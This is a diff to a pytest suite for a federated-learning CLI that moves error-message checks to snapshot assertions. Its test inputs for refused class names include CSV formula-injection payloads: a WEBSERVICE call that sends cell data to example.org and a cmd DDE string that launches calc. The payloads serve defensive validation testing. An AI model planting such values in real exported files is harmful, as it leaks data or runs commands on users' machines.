@@ -24,6 +24,7 @@ from rich.live import Live
 from rich.markup import escape
 from rich.table import Table
 from rich.text import Text
+from syrupy.assertion import SnapshotAssertion
 
 from fedct_flwr.cli import main, silo
 from fedct_flwr.cli.output import echo
@@ -141,25 +142,25 @@ def test_a_name_that_hides_something_is_refused_where_it_stands(study: Path, pla
 
 
 @pytest.mark.parametrize(
-    ("name", "why"),
+    "name",
     [
-        ("x" * 257, "it has 257 characters, and 256 are the most"),
-        ("ill ", "begins or ends with a blank"),
-        (" ", "it is empty, or begins or ends with a blank"),
-        ("", "it is empty"),
-        ("́ill", "stands on nothing"),
-        ("i" + "́" * 5, "or on more than 3 others"),
-        ('=WEBSERVICE("http://example.org/"&A2)', "a spreadsheet would run it as a formula"),
-        ("+HYPERLINK(A2)", "a spreadsheet would run it as a formula"),
-        ("@SUM(A1:A9)", "a spreadsheet would run it as a formula"),
-        ("-1+cmd|' /C calc'!A0", "a spreadsheet would run it as a formula"),
+        "x" * 257,
+        "ill ",
+        " ",
+        "",
+        "́ill",
+        "i" + "́" * 5,
+        '=WEBSERVICE("http://example.org/"&A2)',
+        "+HYPERLINK(A2)",
+        "@SUM(A1:A9)",
+        "-1+cmd|' /C calc'!A0",
     ],
 )
-def test_a_class_with_another_fault_is_refused(study: Path, name: str, why: str) -> None:
+def test_a_class_with_another_fault_is_refused(study: Path, name: str, wording: SnapshotAssertion) -> None:
     rewritten(study, classes=["healthy", name])
     with pytest.raises(ConfigError) as refused:
         read_study(study)
-    assert why in str(refused.value)
+    assert str(refused.value) == wording
     assert len(str(refused.value)) < 1000
 
 
@@ -190,27 +191,22 @@ def test_names_within_a_column_of_parquet_are_quoted_and_cut(study: Path, forged
 
 
 @pytest.mark.parametrize(
-    ("content", "said"),
+    "content",
     [
-        ("study = " + "[" * 20_000, "has tables or lists too deep within each other"),
-        ('study = "a"\nclasses = ["a", "b"]\npublic = "%s.csv"\n' % ("a" * 300), "public in .* cannot be read: "),
-        (
-            'study = "a"\nclasses = ["a", "b"]\nimage-size = [%s, 3]\n' % ("1" * 5_000),
-            "thousands of digits",
-        ),
-        (
-            'study = "a"\nclasses = ["a", "b"]\nimage-size = [0x%s, 3]\n' % ("f" * 5_000),
-            "a number of thousands of digits",
-        ),
+        "study = " + "[" * 20_000,
+        'study = "a"\nclasses = ["a", "b"]\npublic = "%s.csv"\n' % ("a" * 300),
+        'study = "a"\nclasses = ["a", "b"]\nimage-size = [%s, 3]\n' % ("1" * 5_000),
+        'study = "a"\nclasses = ["a", "b"]\nimage-size = [0x%s, 3]\n' % ("f" * 5_000),
     ],
     ids=["deep", "long", "a long number", "a long number in hexadecimal"],
 )
 def test_a_study_that_python_or_the_disk_cannot_take_is_refused_in_one_sentence(
-    study: Path, content: str, said: str
+    study: Path, content: str, wording: SnapshotAssertion
 ) -> None:
     (study / "study.toml").write_text(content)
-    with pytest.raises(ConfigError, match=said) as refused:
+    with pytest.raises(ConfigError) as refused:
         read_study(study)
+    assert str(refused.value) == wording
     assert "\n" not in str(refused.value)
     assert len(str(refused.value)) < 1000
 
@@ -260,14 +256,15 @@ def test_a_surrogate_cannot_even_be_written(study: Path) -> None:
     ],
 )
 @pytest.mark.filterwarnings("ignore")
-def test_a_model_file_of_a_stranger_is_read_the_same_way(tmp_path: Path, changes: dict[str, Any]) -> None:
+def test_a_model_file_of_a_stranger_is_read_the_same_way(
+    tmp_path: Path, changes: dict[str, Any], wording: SnapshotAssertion
+) -> None:
     learner, transformer = trained("logistic-regression")
     path = tmp_path / f"global{suffix(learner)}"
     save_model(path, learner, transformer, description("logistic-regression", **changes))
-    with pytest.raises(
-        DataError, match=r"(hidden character U\+|as a formula).*rename it, or ask its author to"
-    ) as refused:
+    with pytest.raises(DataError) as refused:
         load_model(path)
+    assert str(refused.value) == wording
     assert_plain(str(refused.value))
 
 
@@ -305,6 +302,7 @@ def test_a_study_that_was_approved_with_such_a_name_asks_for_a_mended_one(
     fedct: Fedct,
     kit: Kit,
     monkeypatch: pytest.MonkeyPatch,
+    wording: SnapshotAssertion,
 ) -> None:
     forge(kit)
     with monkeypatch.context() as patch:
@@ -313,7 +311,7 @@ def test_a_study_that_was_approved_with_such_a_name_asks_for_a_mended_one(
         assert fedct("silo", "approve", kit.folder, "--yes", "--reason", "test").code == 0
     outcome = fedct("silo", "start", kit.folder)
     assert outcome.code == ConfigError.exit_code
-    assert "study.toml: it holds the hidden character U+001B: rename it, or ask its author to" in outcome.sentence
+    assert outcome.sentence == wording
 
 
 # --- printing
